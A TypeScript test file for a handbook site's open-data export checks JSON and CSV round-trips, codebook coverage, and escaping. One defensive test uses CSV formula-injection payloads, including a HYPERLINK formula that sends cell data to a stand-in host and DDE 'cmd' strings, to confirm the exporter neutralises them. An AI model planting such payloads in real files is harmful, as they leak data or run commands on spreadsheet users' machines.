/**
 * The open data (/data/case-studies.json and .csv, /data/practices.json and .csv) reads back as exactly the
 * handbook's data, and its codebook describes every column, from each field's own description.
 */
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify as stringifyCsv } from 'csv-stringify/sync';
// SheetJS, the spreadsheet library most web tools use to open a CSV; its last release on npm, used here only to read.
import { read as readSpreadsheet } from 'xlsx';
import { z } from 'astro/zod';
import { describe, expect, it } from 'vitest';
import { codebook } from '../../src/lib/tools/codebook';
import { idOf, listPageFiles } from '../../src/lib/content/content-files.node.ts';
import { splitFrontmatter } from '../../src/lib/core/frontmatter';
import { DATA_COLLECTIONS, dataPlan, plainData, toCsv, toJson, type DataRecord } from '../../src/lib/content/open-data';
import { pageUrl } from '../../src/lib/content/routes';
import { makeSchemas } from '../../src/lib/content/schemas';
import { codebookName, readCsvRows, readJsonRecords } from '../support/read-open-data';

const root = resolve(import.meta.dirname, '../..');
const schemas = makeSchemas(() => z.string());

/** The collection's pages as the schema reads them, the way the build's collections hold them. */
function collectionRecords(collection: (typeof DATA_COLLECTIONS)[number]): DataRecord[] {
  return listPageFiles(root, collection).map((file) => {
    const data = schemas[collection].parse(splitFrontmatter(readFileSync(join(root, file), 'utf8')).data);
    const id = idOf(file);
    return { id, url: `https://example.org${pageUrl(collection, id)}`, ...(data as Record<string, unknown>) };
  });
}

function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

describe.each(DATA_COLLECTIONS.map((c) => [c]))('the open data of %s', (collection) => {
  const plan = dataPlan(collection);
  const records = collectionRecords(collection);

  it('has every page', () => {
    expect(records.length).toBe(listPageFiles(root, collection).length);
    expect(records.length).toBeGreaterThan(20);
  });

  it('reads back from JSON as exactly the collection’s data', () => {
    const json = toJson(records, { licence: 'test' });
    expect(readJsonRecords(json, plan)).toEqual(records);
    // Dates are written as the pages write them, not as timestamps.
    expect(json).toMatch(/"lastReviewed": "\d{4}-\d{2}-\d{2}"/);
  });

  it('reads back from CSV as exactly the collection’s data', () => {
    const rows = parseCsv(toCsv(records, plan));
    expect(readCsvRows(rows, plan)).toEqual(records);
    // Every row has the header's width: no cell broke out of its quotes.
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([rows[0]!.length]));
  });

  it('has every CSV column in the codebook, and a description for each', () => {
    const book = codebook(plan);
    const names = new Set(book.map((entry) => entry.name));
    const header = parseCsv(toCsv(records, plan))[0]!;
    expect(header.map(codebookName).filter((name) => !names.has(name))).toEqual([]);
    for (const entry of book) expect(entry.description.length, entry.name).toBeGreaterThan(10);
  });
});

describe('the CSV', () => {
  const plan = dataPlan('case-studies');
  const tricky: DataRecord = {
    id: 'tricky',
    url: 'https://example.org/case-studies/tricky/',
    ...(schemas['case-studies'].parse({
      title: 'A "quoted", comma; name',
      summary: 'A summary with a line break\nand "quotes", commas, and the separator ; inside.',
      organisations: [
        { name: 'First, Ltd', role: 'Led it', lead: true, size: 'small', type: 'charity' },
        { name: 'Member funders', unnamed: true, role: 'Paid for it' },
      ],
      regions: ['london', 'uk-wide'],
      sectors: ['cross-sector'],
      collaborationType: 'consortium',
      period: { start: 2019 },
      power: 'Power text that is long enough to pass.',
      outcomes: ['One outcome, with a comma.', 'Second outcome'],
      themes: ['crisis-response'],
      questions: ['power', 'impact'],
      sources: [{ title: 'A source', publisher: 'Someone', year: 2020 }],
      lastReviewed: '2026-11-26',
    }) as Record<string, unknown>),
  };

  it('keeps quotes, commas, line breaks and separators in text, and lists of values in one cell', () => {
    const text = toCsv([tricky], plan);
    const [header, row] = parseCsv(text) as [string[], string[]];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('title')).toBe('A "quoted", comma; name');
    expect(cell('regions')).toBe('london; uk-wide');
    expect(cell('questions')).toBe('power; impact');
    expect(cell('period.start')).toBe('2019');
    expect(cell('period.end')).toBe('');
    expect(cell('period.status')).toBe('unknown');
    expect(cell('organisations.2.unnamed')).toBe('true');
    expect(cell('outcomes.2')).toBe('Second outcome');
    expect(header).not.toContain('lessons.1');
    expect(readCsvRows(parseCsv(text), plan)).toEqual([tricky]);
  });

  it('holds no cell a spreadsheet would run as a formula, whatever a page’s fields begin with', () => {
    const hostile: DataRecord = {
      ...tricky,
      id: 'hostile',
      title: '=HYPERLINK("https://evil.example/?"&A2,"Open the report")',
      summary: "+cmd|' /C calc'!A0 is what a spreadsheet would run.",
      sources: [{ title: '-2+3', publisher: "@SUM(1+1)*cmd|' /C calc'!A0", year: 2020 }],
    };
    const [header, ...rows] = parseCsv(toCsv([tricky, hostile], plan)) as string[][];
    // A spreadsheet runs a cell as a formula when it starts with one of these (OWASP's list).
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
    const row = rows[1]!;
    expect(row[header!.indexOf('title')]).toBe('\'=HYPERLINK("https://evil.example/?"&A2,"Open the report")');

    // Opened as a spreadsheet opens it (SheetJS reads a cell starting with "=" as a formula): no cell is one, though
    // the same values written without the escape are.
    const formulaCells = (csv: string) =>
      Object.entries(readSpreadsheet(csv, { type: 'string', cellFormula: true }).Sheets.Sheet1!)
        .filter(([address, cell]) => !address.startsWith('!') && (cell as { f?: string }).f !== undefined)
        .map(([address]) => address);
    expect(formulaCells(toCsv([tricky, hostile], plan))).toEqual([]);
    expect(formulaCells(stringifyCsv([[hostile.title]]))).toEqual(['A1']);
  });

  it('starts with a byte order mark, so Excel reads it as UTF-8', () => {
    expect(toCsv([tricky], plan).startsWith('\uFEFFid,url,')).toBe(true);
  });
});

describe('the codebook', () => {
  const plan = dataPlan('case-studies');
  const book = codebook(plan);
  const entry = (name: string) => book.find((e) => e.name === name);

  it('describes each column with the schema’s own comment', () => {
    expect(entry('power')?.description).toBe(
      'What was done about power: who held it, how it was shared, where the money flowed.',
    );
    // A nested field reads its parent's comment first.
    expect(entry('organisations.N.role')?.description).toMatch(
      /^Every organisation involved, .* What it did in the collaboration/,
    );
    expect(entry('period.status')?.presence).toBe('"unknown" when the page does not say.');
    expect(entry('sources.N.url')?.presence).toBe('Empty where the page does not say.');
  });

  it('lists the allowed values with their meanings from the vocabularies', () => {
    expect(entry('collaborationType')?.values).toContainEqual({ value: 'alliance-contract', label: 'Alliance contract' });
    expect(entry('regions')?.format).toBe('Values from the list below, separated by "; ".');
    expect(entry('relatedPractices')?.format).toMatch(/ids of pages among the practices/);
  });

  it('names numbered columns with N', () => {
    expect(codebookName('organisations.12.name')).toBe('organisations.N.name');
    expect(codebookName('outcomes.3')).toBe('outcomes.N');
    expect(codebookName('period.start')).toBe('period.start');
  });
});

describe('plainData', () => {
  it('turns page references into ids', () => {
    const plan = dataPlan('practices');
    const data = plainData(plan, { relatedCaseStudies: [{ collection: 'case-studies', id: 'imkaan' }], questions: ['power'] });
    expect(data).toEqual({ relatedCaseStudies: ['imkaan'], questions: ['power'] });
  });
});
